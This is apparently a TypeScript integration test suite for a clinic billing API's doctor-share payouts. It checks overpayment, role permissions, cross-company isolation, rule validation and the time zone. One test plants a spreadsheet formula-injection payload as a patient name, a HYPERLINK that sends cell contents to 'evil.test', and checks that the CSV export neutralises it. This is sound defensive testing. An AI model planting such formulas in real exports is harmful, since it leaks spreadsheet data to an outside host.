import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { companies, patients } from '../../db/schema/index.js';
import { auth, body, createOrg, createTestContext, errorOf, signInStaff, type TestContext, type TestOrg } from '../../test/harness.js';
import { issuedInvoice, shareClinic, shareRule, type ShareClinic } from './fixtures.js';

/*
 * The doctor's share from the outside: payouts for overlapping periods, a receptionist, another company's ids,
 * a patient whose name is a spreadsheet formula. The company bills in SAR with 15% VAT; the service is 200.00 net.
 */

let ctx: TestContext;
let org: TestOrg;
let other: TestOrg;
let now = new Date('2026-07-01T09:00:00Z');

const send = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object, token = org.token) =>
  ctx.app.inject({ method, url, headers: auth(token), ...(payload ? { payload } : {}) });
const ok = async (url: string, payload: object) => {
  const res = await send('POST', url, payload);
  expect(res.statusCode, res.body).toBe(201);
  return body(res).data;
};
const pay = (p: ShareClinic, id: string, amount: number) => ok(`/api/invoices/${id}/payments`, { method: 'cash', amount, cashBox: p.box });
const close = async (p: ShareClinic, counted: number) => (await ok(`/api/cash-boxes/${p.box}/close`, { counted })).date as string;
const payout = (doctor: string, from: string, to: string, amount: number, token = org.token) =>
  send('POST', '/api/doctor-shares/payouts', { doctor, from, to, amount, method: 'cash' }, token);

beforeAll(async () => {
  ctx = await createTestContext({}, { clock: () => now });
  org = await createOrg(ctx);
  await ctx.database.db.update(companies).set({ timeZone: 'Asia/Riyadh' }).where(eq(companies.id, org.companyId));
  other = await createOrg(ctx);
  for (const o of [org, other]) {
    const settings = await send('PUT', '/api/billing/settings', { currency: 'SAR', vatRatePercent: 15, version: 1 }, o.token);
    expect(settings.statusCode, settings.body).toBe(200);
  }
}, 60_000);
afterAll(() => ctx?.close());

/** A doctor with 70.00 earned and locked into the day close of 2026-07-01. */
async function earned70() {
  const p = await shareClinic(ctx, org);
  await shareRule(ctx.database.db, org.companyId, p.doctor.id, { kind: 'percent', percentBasisPoints: 3500 });
  const inv = await issuedInvoice(ctx, org, p);
  await pay(p, inv._id, 23_000);
  return { p, day: await close(p, 23_000) };
}

describe('payouts', () => {
  it('never pays the same earned share twice through overlapping periods', async () => {
    const { p, day } = await earned70();
    expect((await payout(p.doctor.id, day, day, 7000)).statusCode).toBe(201);
    // The same day again inside a wider period, or inside a period that starts earlier: nothing is left to pay.
    const wider = await payout(p.doctor.id, '2026-06-01', '2026-07-31', 7000);
    expect(wider.statusCode, wider.body).toBe(422);
    expect(errorOf(wider.body)?.code).toBe('DOCTOR_SHARE_OVERPAID');
    const earlier = await payout(p.doctor.id, '2026-06-15', day, 1);
    expect(earlier.statusCode, earlier.body).toBe(422);
    const s = body(await send('GET', `/api/doctor-shares/statement?doctor=${p.doctor.id}&from=2026-06-01&to=2026-07-31`)).data;
    expect(s.totals.share).toBe(7000);
  });

  it('refuses a zero, negative or absurd amount and a period that ends before it starts', async () => {
    const { p, day } = await earned70();
    for (const amount of [0, -100, 1e20, 10.5]) expect((await payout(p.doctor.id, day, day, amount)).statusCode).toBe(422);
    expect((await payout(p.doctor.id, '2026-07-31', '2026-07-01', 100)).statusCode).toBe(422);
    expect((await payout(p.doctor.id, '9999-12-31', '9999-12-31', 1)).statusCode).toBe(422);
  });
});

describe('who may do what', () => {
  it('a receptionist neither reads a share, nor writes a rule, nor records a payout', async () => {
    const { p, day } = await earned70();
    const desk = await signInStaff(ctx, org, { name: 'Desk Probe', username: 'desk_probe', email: 'desk_probe@north.test', employeeType: 'Administrative', roleNames: ['Receptionist'] });
    expect((await send('GET', `/api/doctor-shares/statement?doctor=${p.doctor.id}&from=${day}&to=${day}`, undefined, desk)).statusCode).toBe(403);
    expect((await send('GET', `/api/doctor-shares/statement.csv?doctor=${p.doctor.id}&from=${day}&to=${day}`, undefined, desk)).statusCode).toBe(403);
    expect((await send('GET', '/api/doctor-shares/rules', undefined, desk)).statusCode).toBe(403);
    expect((await send('POST', '/api/doctor-shares/rules', { doctor: p.doctor.id, kind: 'percent', percent: 99, effectiveFrom: '2026-07-02' }, desk)).statusCode).toBe(403);
    expect((await payout(p.doctor.id, day, day, 100, desk)).statusCode).toBe(403);
    const doctors = await send('GET', '/api/doctor-shares/doctors', undefined, desk);
    expect(doctors.statusCode === 403 || body(doctors).data.length === 0, doctors.body).toBe(true);
  });

  it('a doctor pays themselves nothing and lists no one else\'s rules', async () => {
    const { p, day } = await earned70();
    const doctor = await signInStaff(ctx, org, { name: 'Dr. Probe', username: 'dr_probe', email: 'dr_probe@north.test', employeeType: 'Doctor', roleNames: ['Doctor'] });
    expect((await payout(p.doctor.id, day, day, 100, doctor)).statusCode).toBe(403);
    expect((await send('GET', `/api/doctor-shares/rules?doctor=${p.doctor.id}`, undefined, doctor)).statusCode).toBe(403);
    expect(body(await send('GET', `/api/doctor-shares/statement?doctor=${p.doctor.id}&from=${day}&to=${day}`)).data.paid).toBe(0);
  });

  it('another company\'s admin reaches none of this company\'s doctors, rules or share', async () => {
    const { p, day } = await earned70();
    const rule = await ok('/api/doctor-shares/rules', { doctor: p.doctor.id, kind: 'percent', percent: 10, effectiveFrom: '2026-08-01' });
    const statement = await send('GET', `/api/doctor-shares/statement?doctor=${p.doctor.id}&from=${day}&to=${day}`, undefined, other.token);
    expect(statement.statusCode).toBe(422);
    expect(errorOf(statement.body)?.code).toBe('DOCTOR_SHARE_NOT_A_DOCTOR');
    expect((await payout(p.doctor.id, day, day, 100, other.token)).statusCode).toBe(422);
    expect((await send('POST', '/api/doctor-shares/rules', { doctor: p.doctor.id, kind: 'percent', percent: 99, effectiveFrom: '2026-08-02' }, other.token)).statusCode).toBe(422);
    expect((await send('DELETE', `/api/doctor-shares/rules/${rule._id}`, undefined, other.token)).statusCode).toBe(404);
    expect(body(await send('GET', `/api/doctor-shares/rules?doctor=${p.doctor.id}`, undefined, other.token)).data).toEqual([]);
    expect(body(await send('GET', `/api/doctor-shares/rules?doctor=${p.doctor.id}`)).data).toHaveLength(2);
  });
});

describe('absurd rules', () => {
  it('refuses a percent over 100, a negative fixed amount, 10,000 tiers and tiers out of order', async () => {
    const p = await shareClinic(ctx, org);
    const rule = (extra: object) => send('POST', '/api/doctor-shares/rules', { doctor: p.doctor.id, effectiveFrom: '2026-07-02', ...extra });
    expect((await rule({ kind: 'percent', percent: 100.01 })).statusCode).toBe(422);
    expect((await rule({ kind: 'percent', percent: -1 })).statusCode).toBe(422);
    expect((await rule({ kind: 'fixed', fixedAmount: -1 })).statusCode).toBe(422);
    const many = Array.from({ length: 10_000 }, (_, i) => ({ fromVisit: i + 1, percent: 10 }));
    expect((await rule({ kind: 'tiers', tiers: many })).statusCode).toBe(422);
    expect((await rule({ kind: 'tiers', tiers: [{ fromVisit: 5, percent: 10 }, { fromVisit: 1, percent: 20 }] })).statusCode).toBe(422);
    expect(body(await send('GET', `/api/doctor-shares/rules?doctor=${p.doctor.id}`)).data).toEqual([]);
  });

  it('takes "today" in the company\'s time zone: 23:30 UTC on 30 June is already 1 July in Riyadh', async () => {
    const p = await shareClinic(ctx, org);
    now = new Date('2026-06-30T23:30:00Z');
    try {
      const res = await send('POST', '/api/doctor-shares/rules', { doctor: p.doctor.id, kind: 'percent', percent: 20, effectiveFrom: '2026-07-01' });
      expect(res.statusCode, res.body).toBe(201);
      expect(body(res).data.inEffect).toBe(true);
    } finally {
      now = new Date('2026-07-01T09:00:00Z');
    }
  });
});

describe('the CSV', () => {
  it('a patient named as a formula is text in the statement\'s CSV', async () => {
    const { p, day } = await earned70();
    await ctx.database.db.update(patients).set({ name: '=HYPERLINK("http://evil.test/?"&A1,"Click")' }).where(eq(patients.id, p.patient.id));
    const csv = await send('GET', `/api/doctor-shares/statement.csv?doctor=${p.doctor.id}&from=${day}&to=${day}`);
    expect(csv.statusCode).toBe(200);
    const cells = csv.body.split(/\r?\n/)[1]!;
    expect(cells).not.toMatch(/(^|,)"?=/);
    expect(cells).toContain(`'=HYPERLINK`);
  });
});
